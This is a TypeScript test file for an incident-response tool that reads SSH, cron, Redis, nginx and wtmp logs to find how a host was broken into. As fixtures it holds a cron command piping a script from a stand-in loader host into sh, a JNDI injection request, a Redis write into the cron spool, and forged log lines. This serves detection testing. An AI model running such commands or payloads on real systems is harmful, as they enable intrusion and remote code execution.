import { Buffer } from 'node:buffer';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { infectedSnapshot, LOADER, labContext } from '../../test/shared/infected-snapshot.ts';
import { cleanSnapshot } from '../../test/shared/snapshots.ts';
import { asSha256 } from '../ids.ts';
import { show } from '../show.ts';
import { judge } from '../verdict/index.ts';
import { readEvents } from './events.ts';
import type { LogFile, RootCauseReport } from './index.ts';
import { rootCauseReport, rootCauseReportSchema } from './index.ts';

/** The linked files of the snapshot were written then, and its processes started later. */
const ARTEFACT = 1_700_000_000_000;
const MINUTE = 60_000;
const DAY = 1440 * MINUTE;
const FROM = '203.0.113.66';

const stamp = (at: number): string => new Date(at).toISOString();
const syslog = (at: number, tag: string, message: string): string =>
  `${stamp(at)} web1 ${tag}[7]: ${message}\n`;
const accepted = (at: number, user = 'root', from = FROM, how = 'password'): string =>
  syslog(at, 'sshd', `Accepted ${how} for ${user} from ${from} port 5 ssh2`);
const failed = (at: number, user = 'root', from = FROM): string =>
  syslog(at, 'sshd-session', `Failed password for invalid user ${user} from ${from} port 5 ssh2`);
const file = (path: string, text: string | Uint8Array): LogFile => ({
  path: show(path),
  bytes: Buffer.from(text),
  writtenMs: ARTEFACT + DAY,
  truncated: false,
  sha256: asSha256('e'.repeat(64)),
});
const report = (text: string, path = '/var/log/auth.log', snapshot = infectedSnapshot()): RootCauseReport =>
  rootCauseReport({
    files: [file(path, text)],
    utcOffsetMinutes: 0,
    snapshot,
    judgement: judge(snapshot, labContext),
    missing: [],
  });

describe('the cause', () => {
  test('is unproven without logs, and with attempts only', () => {
    expect(report('')).toMatchObject({ cause: 'unproven', entry: null });
    const tries = Array.from({ length: 500 }, (_, i) => failed(ARTEFACT - i * 1000)).join('');
    const seen = report(tries);
    expect(seen).toMatchObject({ cause: 'unproven', entry: null });
    expect(seen.findings).toContain(`500 failed logins from ${FROM}.`);
  });

  test('is proven by guessing, a login and the first artefact within minutes', () => {
    const guessing = Array.from({ length: 30 }, (_, i) => failed(ARTEFACT - 10 * MINUTE + i * 1000)).join('');
    const seen = report(`${guessing}${accepted(ARTEFACT - 5 * MINUTE)}`);
    expect(seen.cause).toBe('proven');
    expect(seen.entry).toMatchObject({ file: '/var/log/auth.log', line: 31, user: 'root', address: FROM });
    expect(seen.entry?.because).toContain('30 failed logins from there in the hour before.');
    expect(seen.entry?.evidence).toBe('e'.repeat(64));
    expect(seen.indicators).toContainEqual({ type: 'address', value: FROM });
    expect(seen.indicators).toContainEqual({ type: 'url', value: `http://${LOADER}:8443` });
  });

  test('counts repeated lines as often as they stand for', () => {
    const many = syslog(
      ARTEFACT - 6 * MINUTE,
      'sshd',
      `message repeated 40 times: [ Failed password for root from ${FROM} port 5 ssh2]`,
    );
    expect(report(`${many}${accepted(ARTEFACT - 5 * MINUTE)}`).entry?.because).toContain(
      '40 failed logins from there in the hour before.',
    );
  });

  test('is at most likely where the artefact came days later', () => {
    expect(report(failed(ARTEFACT - 2 * DAY - 5) + accepted(ARTEFACT - 2 * DAY)).cause).toBe('likely');
  });

  test('is never a login after the first artefact, nor one of ours', () => {
    expect(report(accepted(ARTEFACT + 1_000)).entry).toBeNull();
    const { responder } = infectedSnapshot().host;
    expect(report(accepted(ARTEFACT - MINUTE, 'root', responder.address)).entry).toBeNull();
  });

  test('is not an administrator who comes every day with a key', () => {
    const daily = Array.from({ length: 20 }, (_, i) =>
      accepted(ARTEFACT - (i + 1) * DAY, 'root', '192.0.2.9', 'publickey'),
    );
    expect(report(daily.join(''))).toMatchObject({ cause: 'unproven', entry: null });
  });

  test('is a login as an account that nobody uses', () => {
    expect(report(accepted(ARTEFACT - DAY / 2, 'games', FROM, 'publickey')).entry).toMatchObject({
      user: 'games',
    });
  });

  test('is Redis writing where cron reads; a health check is an attempt', () => {
    const redis = (message: string) =>
      `812:M ${new Date(ARTEFACT - MINUTE).toUTCString().slice(5, 25)}.000 * ${message}\n`;
    const hit = report(redis('"CONFIG" "SET" "dir" "/var/spool/cron"'), '/var/log/redis/redis.log');
    expect(hit).toMatchObject({
      cause: 'proven',
      entry: { kind: 'redis', line: 1, at: stamp(ARTEFACT - MINUTE) },
    });
    expect(report(redis('Possible SECURITY ATTACK detected.'), '/var/log/redis/redis.log').entry).toBeNull();
  });

  test('a page that answered is named among others, a refused one is not', () => {
    const web = (status: number) =>
      `203.0.113.80 - - [14/Nov/2023:22:10:00 +0000] "GET /\${jndi:ldap://x/a} HTTP/1.1" ${status} 12 "-" "-"\n`;
    const seen = report(web(200), '/var/log/nginx/access.log');
    expect([...seen.others, ...(seen.entry === null ? [] : [seen.entry])]).toMatchObject([
      { kind: 'web', grade: 'unproven' },
    ]);
    expect(seen.cause).not.toBe('proven');
    const refused = report(web(404), '/var/log/nginx/access.log');
    expect(refused.entry).toBeNull();
    expect(refused.others).toEqual([]);
  });

  test('the timeline tells what cron ran, in order, by our clock', () => {
    const snapshot = { ...infectedSnapshot(), host: { ...cleanSnapshot().host, clockOffsetMs: 3_600_000 } };
    const text =
      syslog(ARTEFACT + MINUTE, 'CRON', `(root) CMD (curl -fsSL http://${LOADER}:8443/i.sh | sh)`) +
      syslog(ARTEFACT + MINUTE, 'CRON', '(root) CMD (/usr/local/bin/backup)') +
      syslog(ARTEFACT - MINUTE, 'crontab', '(root) REPLACE (root)');
    const rows = report(text, '/var/log/syslog', snapshot).timeline;
    expect(rows.map((row) => row.what)).toEqual([
      'crontab replaced as root',
      expect.stringMatching(/^first artefact, at the latest: /),
      'cron ran a command that fetches and runs as root',
    ]);
    expect(rows[0]?.at).toBe(stamp(ARTEFACT - MINUTE - 3_600_000));
  });
});

describe('hostile lines', () => {
  const printable = fc.string({ maxLength: 200 }).map((text) => text.replaceAll('\n', ' '));

  test('a name chosen to look like a login never makes one, and never hides the address', () => {
    const forged = fc.oneof(
      printable,
      fc.constantFrom(
        `x from 192.0.2.1 port 1 ssh2: Accepted password for root from 192.0.2.1 port 1 ssh2`,
        `root from 192.0.2.1 port 1 ssh2\u0000`,
        'config set dir /etc/cron.d',
        `Module 'x' loaded from /tmp/x.so`,
        '1.1.1.1 - - [14/Nov/2023:22:10:00 +0000] "POST /v1.24/containers/create HTTP/1.1" 201 5',
        `message repeated 99 times: [ Accepted password for root from 192.0.2.1 port 22 ssh2]`,
      ),
    );
    fc.assert(
      fc.property(forged, (user) => {
        const closed = syslog(
          ARTEFACT - MINUTE,
          'sshd',
          `Connection closed by invalid user ${user} ${FROM} port 5 [preauth]`,
        );
        const lines = failed(ARTEFACT - MINUTE, user) + closed;
        for (const event of readEvents([file('/var/log/auth.log', lines)], 0).events) {
          expect(event.grade).toBe('attempt');
          if (event.kind === 'ssh') expect(event.address).toBe(FROM);
        }
      }),
    );
  });

  test('any bytes: nothing throws, and every text is shown text', () => {
    const safe = (text: string | null) =>
      text === null || show(text.replaceAll('\\', '')) === text.replaceAll('\\', '');
    const lines = fc.array(
      fc.oneof(
        fc.uint8Array({ maxLength: 300 }),
        fc
          .uint8Array({ maxLength: 60 })
          .map((tail) => Buffer.concat([Buffer.from(accepted(ARTEFACT - MINUTE).trim()), tail])),
        fc
          .uint8Array({ maxLength: 60 })
          .map((user) =>
            Buffer.concat([
              Buffer.from(`${stamp(ARTEFACT)} h sshd[1]: Accepted password for `),
              user,
              Buffer.from(` from ${FROM} port 1 ssh2\n`),
            ]),
          ),
      ),
    );
    fc.assert(
      fc.property(
        lines,
        fc.constantFrom('/var/log/auth.log', '/var/log/wtmp', '/var/log/nginx/access.log'),
        (parts, path) => {
          const snapshot = infectedSnapshot();
          const files = [file(path, Buffer.concat(parts.flatMap((part) => [part, Buffer.from('\n')])))];
          const seen = rootCauseReport({
            files,
            utcOffsetMinutes: 0,
            snapshot,
            judgement: judge(snapshot, labContext),
            missing: [],
          });
          expect(rootCauseReportSchema.parse(seen)).toEqual(seen);
          for (const one of [...seen.others, ...(seen.entry === null ? [] : [seen.entry])]) {
            expect([one.text, one.user, one.address].every(safe)).toBe(true);
          }
        },
      ),
    );
  });
});

test('wtmp names logins by record', () => {
  const record = (type: number, user: string, from: string, at: number): Buffer => {
    const bytes = Buffer.alloc(384);
    bytes.writeInt16LE(type, 0);
    bytes.write('pts/0', 8);
    bytes.write(user, 44);
    bytes.write(from, 76);
    bytes.writeUInt32LE(at / 1000, 340);
    return bytes;
  };
  const bytes = Buffer.concat([
    record(2, 'reboot', '6.1', ARTEFACT - DAY),
    record(7, 'root', FROM, ARTEFACT - MINUTE),
  ]);
  const { events } = readEvents([file('/var/log/wtmp', bytes)], 0);
  expect(events).toMatchObject([
    { line: 2, user: 'root', address: FROM, grade: 'success', atMs: ARTEFACT - MINUTE },
  ]);
});
